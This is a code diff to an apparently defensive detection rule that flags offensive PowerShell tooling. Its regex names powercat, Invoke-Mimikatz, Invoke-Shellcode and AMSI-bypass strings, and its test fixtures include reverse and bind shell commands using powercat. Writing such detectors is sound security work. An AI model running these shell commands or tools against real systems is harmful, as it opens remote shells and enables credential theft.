@@ -1,3 +1,4 @@
+import { isCompleteItself } from '../../checks/documentation.js';
 import type { Candidate, Rule } from '../../rule.js';
 
 /** What is started has the name of what was saved. */
@@ -52,6 +53,7 @@ export const rule: Rule = {
     },
     {
       re: /(?<![\w-])(?:powercat|invoke-powershelltcp|invoke-conptyshell|invoke-mimikatz|invoke-shellcode|invoke-bloodhound)\s+-?\w/i,
+      accept: isCompleteItself,
     },
     { re: /amsiinitfailed|amsiutils["')\s]|system\.management\.automation\.amsi/i },
   ],
@@ -69,6 +71,7 @@ export const rule: Rule = {
       'powercat -c 203.0.113.7 -p 4444 -e cmd',
     ],
     silent: [
+      'powercat -l -p {{8000}} -e cmd',
       'Invoke-WebRequest https://files.invalid/x.zip -OutFile x.zip',
       '$r = Invoke-RestMethod https://api.example.com/v1; $r.items',
       'Start-Process notepad.exe',
